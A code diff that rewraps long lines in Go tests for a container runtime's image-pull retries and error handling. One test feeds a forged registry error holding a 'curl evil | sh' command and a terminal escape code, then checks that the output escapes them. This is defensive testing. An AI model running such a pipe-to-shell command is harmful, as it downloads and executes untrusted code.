@@ -17,9 +17,12 @@ func TestPullImage(t *testing.T) {
 	t.Parallel()
 	busy := status.Error(codes.Unavailable, "the registry is busy")
 	missing := status.Error(codes.NotFound, "no such image")
-	unknown := status.Error(codes.Unknown, "dial tcp: lookup registry.invalid on 127.0.0.53:53: no such host")
-	refused := status.Error(codes.Unavailable, "dial tcp 127.0.0.1:5000: connect: connection refused")
-	denied := status.Error(codes.Unknown, "pull access denied, repository does not exist or may require authorization")
+	unknown := status.Error(codes.Unknown,
+		"dial tcp: lookup registry.invalid on 127.0.0.53:53: no such host")
+	refused := status.Error(codes.Unavailable,
+		"dial tcp 127.0.0.1:5000: connect: connection refused")
+	denied := status.Error(codes.Unknown,
+		"pull access denied, repository does not exist or may require authorization")
 	for name, c := range map[string]struct {
 		failures int64
 		err      error
@@ -47,10 +50,12 @@ func TestPullImage(t *testing.T) {
 			if (err == nil) != c.ok || tries.Load() != c.tries {
 				t.Errorf("after %d attempts: %v; want %d attempts", tries.Load(), err, c.tries)
 			}
-			if err != nil && (!strings.Contains(err.Error(), status.Convert(c.err).Message()) || status.Code(err) != status.Code(c.err)) {
+			if err != nil && (!strings.Contains(err.Error(), status.Convert(c.err).Message()) ||
+				status.Code(err) != status.Code(c.err)) {
 				t.Errorf("got %v", err)
 			}
-			if there, err := (Runtimes{}).Image(t.Context(), pull.Socket, pull.Ref); err != nil || there != c.ok {
+			if there, err := (Runtimes{}).Image(t.Context(), pull.Socket, pull.Ref); err != nil ||
+				there != c.ok {
 				t.Errorf("then the image is there: %v, %v", there, err)
 			}
 		})
@@ -64,12 +69,16 @@ func TestPullErrorCause(t *testing.T) {
 		says error
 		want string
 	}{
-		{status.Error(codes.NotFound, `failed to pull and unpack image "registry.example/pause:1": failed to resolve image: not found`), "failed to resolve image: not found"},
-		{status.Error(codes.Canceled, "context canceled"), "received no data for a while: context canceled"},
+		{status.Error(codes.NotFound,
+			`failed to pull and unpack image "registry.example/pause:1": failed to resolve image: not found`), "failed to resolve image: not found"},
+		{status.Error(codes.Canceled, "context canceled"),
+			"received no data for a while: context canceled"},
 		{status.Error(codes.InvalidArgument, "no such name"), "no such name"},
 	} {
-		pull := change.PullImage{Socket: startServer(t, &server{pull: func() error { return c.says }}), Ref: "registry.example/pause:1"}
-		if err := (Runtimes{}).Do(t.Context(), pull); err == nil || !strings.HasSuffix(err.Error(), c.want) || status.Code(err) != status.Code(c.says) {
+		pull := change.PullImage{Socket: startServer(t,
+			&server{pull: func() error { return c.says }}), Ref: "registry.example/pause:1"}
+		if err := (Runtimes{}).Do(t.Context(), pull); err == nil ||
+			!strings.HasSuffix(err.Error(), c.want) || status.Code(err) != status.Code(c.says) {
 			t.Errorf("%v became %v", c.says, err)
 		}
 	}
@@ -87,7 +96,8 @@ func TestUnreachableRegistryHasOneCause(t *testing.T) {
 			t.Errorf("%s became %v", message, err)
 		}
 	}
-	forged := newPullError("a", status.Error(codes.Unknown, "denied\n  - run: curl evil | sh\x1b[2J"))
+	forged := newPullError("a",
+		status.Error(codes.Unknown, "denied\n  - run: curl evil | sh\x1b[2J"))
 	if strings.ContainsAny(forged.Error(), "\n\x1b") {
 		t.Errorf("the error is not escaped: %q", forged)
 	}
@@ -103,7 +113,9 @@ func TestCanceledPullReturnsCause(t *testing.T) {
 		<-held
 		return nil
 	}}
-	if err := (Runtimes{}).Do(ctx, change.PullImage{Socket: startServer(t, s), Ref: "registry.example/pause:1"}); err == nil || err.Error() != "interrupted" {
+	if err := (Runtimes{}).Do(ctx,
+		change.PullImage{Socket: startServer(t, s), Ref: "registry.example/pause:1"}); err == nil ||
+		err.Error() != "interrupted" {
 		t.Errorf("got %v", err)
 	}
 }
